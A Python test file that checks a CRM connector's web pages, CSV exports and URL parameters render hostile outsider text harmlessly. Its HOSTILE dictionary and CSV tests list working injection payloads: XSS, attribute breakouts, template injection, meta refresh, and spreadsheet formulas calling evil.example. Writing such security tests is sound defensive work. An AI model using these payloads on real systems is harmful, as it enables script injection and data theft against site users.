"""Text from outsiders on every page: shown as text, whatever it tries. Each case is another mechanism."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import timedelta
from html.parser import HTMLParser

import pytest

from connector.action import CreateNote, CreateTask, Message, UpdateField
from connector.adapter import ChangeEvent, ChangeKind, ChangeOrigin
from connector.change import inbox
from connector.decision import decisions
from connector.decision.decisions import RecordedDecision
from connector.gate import Cell, CellState, FieldBase, Standing, approvals, audits, cells, handoffs
from connector.gate.audits import Audit, AuditState
from connector.gate.handoffs import Handoff, HandoffState
from connector.policy import Unanswered
from connector.record import ActionKind, ConnectionName, FieldName, ObjectType, RecordRef
from connector.web.csv_export import harmless
from tests.support.given import approval
from tests.support.road import DESKS
from tests.support.visitor import Visitor

MARK = "pwned"
HOSTILE = {
    "a script element": f"<script>{MARK}()</script>",
    "a script in another case, split": f"<ScRiPt\n>{MARK}()</sCrIpT\t>",
    "an event of an image": f"<img src=x onerror={MARK}()>",
    "an event without quotes or spaces": f"<svg/onload={MARK}()>",
    "leaving a double-quoted attribute": f'" onmouseover="{MARK}()" x="',
    "leaving a single-quoted attribute": f"' onfocus='{MARK}()' autofocus='",
    "leaving a title": f"</title><script>{MARK}()</script>",
    "leaving a text area": f"</textarea><script>{MARK}()</script>",
    "leaving a select": f"</select></option><img src=x onerror={MARK}()>",
    "leaving a comment": f"--><script>{MARK}()</script><!--",
    "leaving a form to make another": f'</form><form action="https://evil.example/{MARK}"><button>ok',
    "a link that runs": f"javascript:{MARK}()",
    "markup in an entity": f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    "a template expression": "{{ ''.__class__.__mro__ }}{% import 'os' as os %}",
    "a template literal": f"${{{MARK}()}}",
    "a base element": f'<base href="https://evil.example/{MARK}/">',
    "a refresh": f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARK}">',
    "a style that asks elsewhere": f'<style>@import "https://evil.example/{MARK}"</style>',
    "an object": f'<object data="data:text/html,<script>{MARK}()</script>"></object>',
    "mathml with a link": f'<math><a xlink:href="javascript:{MARK}()">x</a></math>',
    "a dangling quote that swallows": f"<img src='https://evil.example/{MARK}?",
    "a name that shadows": '<form id="main"><input name="children">',
    "overlong utf-7": f"+ADw-script+AD4-{MARK}()+ADw-/script+AD4-",
    "a null in the tag": f"<scr\x00ipt>{MARK}()</script>",
    "text that turns around": "\u202egnp.exe\u2066\u200f\u061c",
    "marks that cover the lines around": "O" + "\u0334\u0320\u0346" * 30 + "ff",
    "an isolated surrogate's stand-in": f"\ufffd<x onclick={MARK}()>",
    "line separators": f"\u2028<script>{MARK}()</script>\u2029",
}

CRM = ConnectionName("crm")


class _Elements(HTMLParser):
    """Every element and attribute a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


OURS = {
    "html", "head", "meta", "title", "link", "script", "body", "a", "header", "svg", "circle", "path", "span", "nav", "b",
    "form", "input", "button", "main", "div", "aside", "details", "summary", "h1", "h2", "h3", "section", "p", "kbd",
    "article", "strong", "ul", "li", "q", "rect", "label", "select", "option", "dialog", "dl", "dt", "dd", "ol", "textarea",
    "time", "code", "table", "thead", "tbody", "tr", "th", "td", "i", "line", "polyline", "text",
}  # fmt: skip


def elements_of(text: str) -> _Elements:
    reader = _Elements()
    reader.feed(text)
    return reader


def is_harmless(text: str) -> bool:
    """Whether a browser makes of the page only what our templates hold."""
    found = elements_of(text)
    scripts = [value for tag, name, value in found.attributes if (tag, name) == ("script", "src")]
    events = [name for _, name, _ in found.attributes if name.startswith("on")]
    links = [value for _, name, value in found.attributes if name in ("href", "src", "action")]
    own = all(link.startswith(("/", "#")) and not link.startswith("//") for link in links)
    return (
        found.names <= OURS
        and not events
        and own
        and len(scripts) == text.lower().count("<script") == 1
        and "http-equiv" not in [name for _, name, _ in found.attributes]
        and not re.search("[\u0000\u061c\u202a-\u202e\u2066-\u2069\u200e\u200f]|[\u0300-\u036f]{4}", text)
    )


def plant_oversight(tx, ref, text, now):
    """Hostile text where the pages of oversight find theirs: audits, cells, learners, what was set aside, deals."""
    cell = Cell(CRM, "triage", ObjectType.TICKET, ActionKind.UPDATE, FieldName("subject"))
    wanted = Audit(
        id="a9", cell=str(cell), pins="offline:x", content="c", ref=ref, policy="triage", proposed=text, confidence=0.9,
        owner=text, state=AuditState.OPEN, asked_at=now, due_at=now,
    )  # fmt: skip
    audits.open_new(tx, [wanted, replace(wanted, id="a6", content="d")])
    audits.judge(tx, audits.find(tx, "a6"), text, by="ada", at=now)
    cells.settle(tx, cell, Standing(
        state=CellState.SUPERVISED, pins="offline:x", threshold=None, looks=1, evidence={"why": text, "rows": 1},
        held_values=frozenset({text}), changed_at=now,
    ))  # fmt: skip
    inbox.put(tx, [ChangeEvent(ref=ref, kind=ChangeKind.CHANGED, origin=ChangeOrigin.POLL, occurred_at=now)])
    [waiting] = inbox.due(tx, now + timedelta(days=1), 9, [CRM])
    inbox.bury(tx, waiting.seq, text)
    deal = RecordRef(CRM, ObjectType.OPPORTUNITY, "55")
    decisions.record(tx, [RecordedDecision(
        id="d55", ref=deal, policy="pipeline", policy_version="1", tier="offline", enough=True, disposition="auto",
        rationale=text, detail={"findings": {"health": ["red"], "reasons": [text], "next_step": [text]}}, usd="0",
        occurred_at=now, decided_at=now, run=None,
    )])  # fmt: skip


@pytest.fixture
def desk():
    return DESKS["hubspot"]()


@pytest.fixture
def planted(road, house):
    """A function that puts hostile text wherever foreign text is kept, and gives the pages on which it stands."""

    def plant(text: str) -> list[str]:
        ticket = road.ticket(f"Charged twice {text}", description=text)
        road.rounds()
        ref = RecordRef(CRM, ObjectType.TICKET, "77")
        actions = (
            UpdateField(ref=ref, field=FieldName("subject"), value=text),
            CreateTask(ref=ref, subject=text, description=text, owner=text, priority=text),
            CreateNote(ref=ref, body=text),
            Message(ref=ref, kind=ActionKind.SEND_EMAIL, channel=text, to=(text,), subject=text, body=text, parameters={}),
        )
        asked = [
            approval(
                f"e{place}", action=action, cell=f"crm/triage/ticket/{action.kind}", rationale=text, owner=text, remark=text,
                bases={FieldName("subject"): FieldBase(value=text)},
                citations=({"quote": text, "source": text, "origin": "outsider"},), asked_at=road.clock.now(),
                expires_at=road.clock.now() + (road.clock.now() - road.clock.now().replace(year=2025)),
            )
            for place, action in enumerate(actions)
        ]
        case = Handoff(
            id="a7", decision="d", policy="triage", ref=ref, reason=text, summary=text, tried=(text,), missing=(text,),
            owner=text, ladder=(text, text), step=0, fallback=Unanswered.DENY, state=HandoffState.OPEN,
            opened_at=road.clock.now(), due_at=road.clock.now(),
        )
        with house.store.transaction("test: planted") as tx:
            approvals.ask(tx, asked)
            handoffs.open_new(tx, [case, replace(case, id="a8")])
            plant_oversight(tx, ref, text, road.clock.now())
        people = house.people
        people.reject("e2", by="ada", remark=text)
        people.close("a8", by="ada", remark=text)
        [question] = road.approvals(ticket)
        people.hand_to(question.id, text, by="ada", remark=text)
        people.approve(question.id, by="ada", remark=text)
        road.write()
        return [
            "/", "/approvals/e0", "/approvals/e1", "/approvals/e2", "/approvals/e3", f"/approvals/{question.id}",
            f"/approvals/{question.id}/now", "/handoffs", "/handoffs/a7", "/handoffs/a8", "/history", f"/records/{ticket}",
            f"/records/{ref}", f"/revert?record={ticket}", "/agents", "/audits", "/audits/a9", "/audits/a6",
            "/health", "/pipeline", "/report", "/report?days=7",
        ]  # fmt: skip

    return plant


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_it_is_text_on_every_page(house, planted, text):
    pages = planted(text)
    ada = Visitor(house)
    told = ada.read(pages[0])
    assert text[:3].strip("\u202e\u2028") == "" or "Charged twice" in told
    for path in pages:
        answer = ada.get(path)
        assert answer.status_code == 200, f"{path}: {answer.text}"
        whole = answer.text if path != pages[6] else f"<script src='/x'></script>{answer.text}"
        assert is_harmless(whole), path


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_it_is_text_where_an_address_is_shown_again(house, text):
    ada = Visitor(house)
    for path in ("/", "/history", "/revert", "/approvals/3f9a", "/sign-in"):
        for name in ("record", "pattern", "back", "next", "policy", "page"):
            answer = ada.get(path, params={name: text.replace("\x00", "")})
            assert answer.status_code == 303 or is_harmless(answer.text), (path, name)


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "＝1", "＋1", "－1", "|x"],
)
def test_a_cell_of_a_table_is_never_a_formula(cell):
    assert harmless(cell) == f"'{cell}"


def test_what_is_exported_keeps_its_rows_and_calculates_nothing(house, planted):
    import csv
    import io

    planted('=HYPERLINK("https://evil.example";"x")\r\n"')
    ada = Visitor(house)
    for path in ("/approvals.csv", "/handoffs.csv"):
        answer = ada.get(path)
        assert answer.headers["content-type"].startswith("text/csv")
        assert answer.headers["content-disposition"].startswith("attachment")
        rows = list(csv.reader(io.StringIO(answer.text, newline="")))
        assert len(rows) > 1
        assert {len(row) for row in rows} == {len(rows[0])}
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("cell", ["", "billing", "1", "a=b", "Ada", "“=”"])
def test_an_ordinary_cell_stays_as_it_is(cell):
    assert harmless(cell) == cell
